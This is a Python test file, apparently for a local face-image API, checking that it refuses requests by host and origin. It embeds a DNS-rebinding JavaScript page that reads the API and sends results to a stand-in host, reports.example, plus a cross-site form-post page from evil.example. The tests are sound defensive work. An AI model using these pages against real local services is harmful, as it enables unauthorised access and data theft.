"""What another site's page cannot do at the address without a key, in a real browser too; and what all else can."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import httpx2
import pytest

from tests.servers.chromium import Site, browsing, serving
from tests.servers.proxy import running_proxy
from tests.servers.running_api import free_port

KEY = "a-key-of-length-24------"

#: Waits until its own name leads to the API, as a page does whose name's address changes; then asks it, and reports.
REBINDING_PAGE = """<script>
const bytes = Uint8Array.from(atob("%(photo)s"), letter => letter.charCodeAt(0));
async function ask() {
  let health;
  do {
    health = await fetch("/health");
  } while ((health.headers.get("content-type") || "").startsWith("text/html"));
  const form = new FormData();
  form.append("image", new Blob([bytes]), "a.jpg");
  form.append("original_path", "%(path)s");
  const encode = await fetch("/encode", {method: "POST", body: form});
  const told = [health.status, await health.text(), encode.status, await encode.text()];
  await fetch("http://reports.example:%(port)s/", {method: "POST", mode: "no-cors", body: JSON.stringify(told)});
}
ask();
</script>"""

#: Posts a form to the API, which needs nobody's leave; what comes back it cannot read.
FORM_PAGE = """<form id="form" action="%(url)s/encode" method="post" enctype="multipart/form-data">
<input type="file" name="image" id="file"><input name="original_path" value="%(path)s"></form>
<script>
const bytes = Uint8Array.from(atob("%(photo)s"), letter => letter.charCodeAt(0));
const files = new DataTransfer();
files.items.add(new File([bytes], "a.jpg"));
document.getElementById("file").files = files.files;
document.getElementById("form").submit();
</script>"""


def rebound(api: Any, disk: Path, photo: bytes, profile: Path) -> list[Any]:
    """What a page of rebind.example gets of the API, once its name leads there: two statuses and what was said."""
    folder = disk / profile.parent.name
    folder.mkdir()
    with serving("") as reports:
        fields = {"photo": base64.b64encode(photo).decode(), "path": folder / "a.jpg", "port": reports.port}
        with serving(REBINDING_PAGE % fields) as site, running_proxy(site.port) as name:
            page = f"http://rebind.example:{name.port}/"
            with browsing(page, profile, "rebind.example", "reports.example"):
                _lead_over(name, site, api)
                return list(json.loads(reports.report()))


def _lead_over(name: Any, site: Site, api: Any) -> None:
    """The name leads to the site until the page is there, and then to the API."""
    site.wait_until_asked()
    name.lead_to(api.port)


def test_a_page_whose_name_comes_to_lead_here_reads_nothing_and_writes_nothing(
    api: Any, disk: Path, small_photo: bytes, tmp_path: Path
) -> None:
    health, health_said, encode, encode_said = rebound(api, disk, small_photo, tmp_path / "profile")
    assert health == 403
    assert json.loads(health_said)["code"] == "foreign_host"
    assert encode == 403
    assert json.loads(encode_said)["code"] == "foreign_host"
    assert not (disk / tmp_path.name / "debug").exists()


def test_the_same_page_does_as_it_likes_where_the_settings_name_its_host(
    start_api: Any, tmp_path: Path, small_photo: bytes
) -> None:
    disk = tmp_path / "disk"
    disk.mkdir()
    api = start_api(FACE_DISK_ROOTS=f"photos={disk}", FACE_API_HOSTS="photos.lan, rebind.example")
    health, _, encode, encode_said = rebound(api, disk, small_photo, tmp_path / "profile")
    assert health == 200
    assert encode == 200
    assert Path(json.loads(encode_said)["debug_image_path"]).exists()


def test_another_sites_form_writes_nothing_below_a_disks_root(
    start_api: Any, tmp_path: Path, small_photo: bytes, wait_for: Any
) -> None:
    disk = tmp_path / "disk"
    disk.mkdir()
    api = start_api(FACE_DISK_ROOTS=f"photos={disk}")
    fields = {"photo": base64.b64encode(small_photo).decode(), "path": disk / "a.jpg", "url": api.url}
    page = FORM_PAGE % fields
    with serving(page) as site, browsing(f"http://evil.example:{site.port}/", tmp_path / "profile", "evil.example"):
        wait_for(lambda: "POST /encode" in api.log(), 60)
    assert "POST /encode 403" in api.log()
    assert "code=foreign_origin" in api.log()
    assert list(disk.iterdir()) == []


@pytest.mark.parametrize("host", ["localhost", "LOCALHOST:80", "localhost.", "127.0.0.1:1", "127.8.9.10", "[::1]:5000"])
def test_names_of_the_loopback_are_answered_with_any_port(api: Any, host: str) -> None:
    assert api.client.get("/health", headers={"Host": host}).status_code == 200


@pytest.mark.parametrize(
    "host", ["rebind.example", "192.0.2.1:5000", "localhost.rebind.example", "127.0.0.1.rebind.example", "a b", "[::2]"]
)
@pytest.mark.parametrize("path", ["/health", "/v1/health", "/livez", "/docs", "/metrics", "/nothing"])
def test_other_hosts_are_refused_at_every_path_with_what_is_needed(api: Any, host: str, path: str) -> None:
    refused = api.client.get(path, headers={"Host": host})
    assert refused.status_code == 403
    assert refused.json()["code"] == "foreign_host"
    assert host in refused.json()["error"]
    assert "FACE_API_HOSTS" in refused.json()["error"]


def test_a_client_without_a_host_is_answered(api: Any) -> None:
    with api.connect() as connection:
        connection.sendall(b"GET /livez HTTP/1.0\r\n\r\n")
        assert connection.recv(65536).startswith(b"HTTP/1.0 200")


def test_the_hosts_of_the_settings_are_answered(start_api: Any) -> None:
    api = start_api(FACE_API_HOSTS="Faces.Example.org,[2001:db8::5]", FACE_API_URL="http://facebox.lan:5000/")
    for host in ("faces.example.org", "[2001:db8::5]:80", "FACEBOX.lan:7"):
        assert api.client.get("/health", headers={"Host": host}).status_code == 200


PAGES = {
    "another site's": {"Origin": "http://evil.example"},
    "a file's, or a frame's in a sandbox": {"Origin": "null"},
    "another port's": {"Origin": "http://127.0.0.1:1"},
    "one that hides its origin": {"Sec-Fetch-Site": "cross-site"},
    "no origin at all": {"Origin": ""},
}


@pytest.mark.parametrize("page", PAGES)
@pytest.mark.parametrize("path", ["/encode", "/v1/encode", "/hash", "/compare-images", "/compare"])
def test_what_a_foreign_page_posts_is_refused(api: Any, small_photo: bytes, page: str, path: str) -> None:
    refused = api.client.post(path, files={"image": ("a.jpg", small_photo)}, headers=PAGES[page])
    assert refused.status_code == 403
    assert refused.json()["code"] == "foreign_origin"


def test_our_own_pages_post_and_a_link_from_anywhere_leads_to_them(api: Any, small_photo: bytes) -> None:
    own = {"Origin": api.url, "Sec-Fetch-Site": "same-origin"}
    assert api.encode(small_photo, headers=own).status_code == 200
    assert api.client.get("/docs", headers={"Sec-Fetch-Site": "cross-site"}).status_code == 200


def test_pages_of_a_host_that_the_settings_name_post_through_a_proxy(start_api: Any, small_photo: bytes) -> None:
    api = start_api(FACE_API_HOSTS="faces.example.org")
    through = {"Origin": "https://faces.example.org", "Sec-Fetch-Site": "same-origin"}
    assert api.encode(small_photo, headers=through).status_code == 200


def test_who_shows_a_key_may_come_from_anywhere(start_api: Any, small_photo: bytes) -> None:
    port = free_port()
    api = start_api(FACE_API_OUTSIDE_ADDRESS=f"127.0.0.1:{port}", FACE_API_KEYS=KEY)
    foreign = {"Host": "faces.example.org", "Origin": "http://evil.example"}
    assert api.encode(small_photo, headers=foreign).status_code == 403
    assert api.encode(small_photo, headers=foreign | {"X-API-Key": KEY[:-1]}).status_code == 403
    assert api.encode(small_photo, headers=foreign | {"X-API-Key": KEY}).status_code == 200
    with httpx2.Client(base_url=f"http://127.0.0.1:{port}", headers=foreign) as outside:
        assert outside.get("/livez").status_code == 200
        assert outside.get("/health").status_code == 401
        assert outside.get("/health", headers={"X-API-Key": KEY}).status_code == 200
